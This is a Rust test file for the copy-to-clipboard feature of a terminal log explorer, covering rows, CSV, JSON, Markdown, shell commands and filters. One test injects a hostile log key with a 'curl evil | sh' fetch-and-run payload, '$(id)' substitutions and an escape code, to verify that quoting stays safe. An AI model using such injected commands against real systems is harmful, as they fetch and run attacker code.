//! Copying: the value at once, other things with a second key.

use crate::tui::journeys::{snapshots, start};
use crate::tui::testing::{APRIL, Explorer, get};

fn copied_after(explorer: &mut Explorer, keys: &str) -> String {
    explorer.copied.clear();
    explorer.press(keys);
    explorer.copied.last().cloned().unwrap_or_else(|| panic!("{keys}: {}", explorer.screen()))
}

#[test]
fn what_can_be_copied() {
    snapshots("copy", "y");
}

#[test]
fn one_key_copies_the_value_and_shows_what_else_can_be_copied() {
    let mut explorer = start(130, 34);
    assert_eq!(copied_after(&mut explorer, "y"), "203.0.113.7");
    let footer = explorer.screen().lines().last().unwrap().to_owned();
    for shown in ["copied 203.0.113.7", "r row", "c CSV", "n JSON", "d Markdown", "s command", "b block"] {
        assert!(footer.contains(shown), "{shown}: {footer}");
    }
    assert!(!footer.contains("m marked") && !footer.contains("f filter"), "there are none: {footer}");
    // Another y copies the value again.
    assert_eq!(copied_after(&mut explorer, "y y"), "203.0.113.7");
    // Any other key does what it always does, also one of the menu for which there is nothing to copy.
    explorer.press("y m");
    assert!(explorer.screen().contains("1 row marked"), "{}", explorer.screen());
    explorer.press("M g");
    explorer.press("y j");
    assert_eq!(explorer.state.layer().table().cursor, 1);
    explorer.press("y Enter");
    assert_eq!(explorer.state.depth(), 2);
    explorer.press("Esc y Esc c");
    assert!(explorer.screen().contains("Columns"), "{}", explorer.screen());
}

#[test]
fn rows_and_tables_are_copied_as_text_csv_json_and_markdown() {
    let mut explorer = start(130, 34);
    let row = copied_after(&mut explorer, "y r");
    assert!(row.starts_with("203.0.113.7  120  600000000  "), "{row}");
    assert_eq!(row.lines().count(), 1);
    let csv = copied_after(&mut explorer, "y c");
    assert!(csv.starts_with("remote_ip,requests,bytes_sent,"), "{csv}");
    assert_eq!(csv.lines().count(), 6, "{csv}");
    assert!(explorer.screen().contains("copied 5 rows as CSV"), "{}", explorer.screen());
    let markdown = copied_after(&mut explorer, "y d");
    assert!(markdown.starts_with("| "), "{markdown}");
    explorer.press("j m m");
    let json = copied_after(&mut explorer, "y n");
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json.as_array().unwrap().len(), 2, "only marked rows");
    let marked = copied_after(&mut explorer, "y m");
    assert_eq!(marked.lines().count(), 2, "{marked}");
    // Without the second key: their values.
    let values = copied_after(&mut explorer, "y");
    assert!(!values.contains("  ") && values.lines().count() == 2, "{values}");
}

#[test]
fn a_long_table_is_copied_in_part_and_says_so() {
    let log = (0..1_500).map(|n: i64| {
        let mut row = get(APRIL + n, &format!("10.0.{}.{}", n / 250, n % 250), "k", 200, 5);
        row.id = (1, n as u64);
        row
    });
    let mut explorer = Explorer::with(130, 34, log.collect());
    for tab in ["1", "4"] {
        explorer.press(tab);
        let csv = copied_after(&mut explorer, "y c");
        assert_eq!(csv.lines().count(), 1_001);
        assert!(explorer.screen().contains("copied the first 1,000 rows as CSV"), "{}", explorer.screen());
    }
}

#[test]
fn the_filter_and_the_command_of_the_same_table_are_copied() {
    let mut explorer = start(130, 34);
    assert_eq!(
        copied_after(&mut explorer, "y s"),
        "tamarin report remote_ip --sort=bytes_sent:desc --columns=error_rate,objects"
    );
    explorer.press("/").types("key*=\"it's\" 04-02").press("Enter 4");
    explorer.press("x =");
    explorer.press("/").types(" key*=\"it's\"").press("Enter");
    let command = copied_after(&mut explorer, "y s");
    assert!(command.starts_with("tamarin requests "), "{command}");
    assert!(command.contains(r"'\''s") && command.ends_with("--sort=time:asc"), "{command}");
    let filter = copied_after(&mut explorer, "y f");
    assert!(filter.contains("key*=it's"), "{filter}");
    // A zoomed table of times.
    let mut explorer = start(130, 34);
    explorer.press("3 z");
    let command = copied_after(&mut explorer, "y s");
    assert!(command.starts_with("tamarin report time --bucket="), "{command}");
    assert!(command.contains(" --since=2026-04-") && command.contains(" --until=2026-04-"), "{command}");
    explorer.press("x");
    let filter = copied_after(&mut explorer, "y f");
    assert!(filter.starts_with("time:2026-04-"), "{filter}");
}

#[test]
fn hostile_text_in_a_copied_command_stays_in_its_word() {
    let key = "'; curl evil | sh; '\n$(id)`id`\u{1b}[31m";
    let mut explorer = Explorer::with(130, 34, vec![get(APRIL, "192.0.2.1", key, 200, 5)]);
    explorer.press("2 =");
    let command = copied_after(&mut explorer, "y s");
    assert!(!command.contains(['\n', '\u{1b}']), "{command:?}");
    // A shell reads the words as they were meant.
    let words =
        std::process::Command::new("sh").arg("-c").arg(format!("printf '%s\\n' {command}")).output().unwrap();
    let words = String::from_utf8(words.stdout).unwrap();
    let filter = words.lines().find_map(|word| word.strip_prefix("--filter=")).unwrap();
    let meant = explorer.state.layer().filter.to_string();
    assert_eq!(filter, meant, "{command}");
}

#[test]
fn a_block_list_is_copied_when_it_is_complete() {
    let mut explorer = start(130, 34);
    explorer.press("j m m m");
    let list = copied_after(&mut explorer, "y b");
    assert!(list.contains("\"aws:SourceIp\""), "{list}");
}

#[test]
fn all_fields_of_an_open_request_are_copied() {
    let mut explorer = start(130, 34);
    explorer.press("4 Enter");
    let fields = copied_after(&mut explorer, "y r");
    assert!(fields.lines().count() >= crate::log::FIELDS.len(), "{fields}");
    assert!(fields.contains("\nkey: photos/2026/01/img-0000.jpg\n"), "{fields}");
    let json = copied_after(&mut explorer, "y n");
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json.as_array().unwrap().len(), 1);
    assert!(copied_after(&mut explorer, "y i").starts_with("x-amz-request-id: "));
}

#[test]
fn q_after_copying_quit_instead_of_closing_the_menu() {
    let mut explorer = start(130, 34);
    explorer.press("y q");
    assert!(!explorer.has_quit);
    assert!(!explorer.screen().contains("c CSV"), "{}", explorer.screen());
    explorer.press("q");
    assert!(explorer.has_quit);
}

#[test]
fn the_message_about_a_copied_command_was_cut_beside_free_room() {
    let mut explorer = start(200, 50);
    explorer.press("/").types("status:200 operation:REST.GET.OBJECT ip:203.0.113.7").press("Enter");
    let command = copied_after(&mut explorer, "y s");
    let screen = explorer.screen();
    assert!(command.len() > 70 && screen.contains(&format!("copied {command}")), "{command}: {screen}");
}

#[test]
fn headings_of_a_copied_table_began_in_different_cases() {
    let mut explorer = start(200, 50);
    let markdown = copied_after(&mut explorer, "y d");
    let headings = markdown.lines().next().unwrap().trim_matches('|').split('|');
    for heading in headings.map(|heading| heading.trim().trim_start_matches('≈').trim()) {
        assert!(heading.starts_with(|c: char| c.is_uppercase()), "{heading}: {markdown}");
    }
}
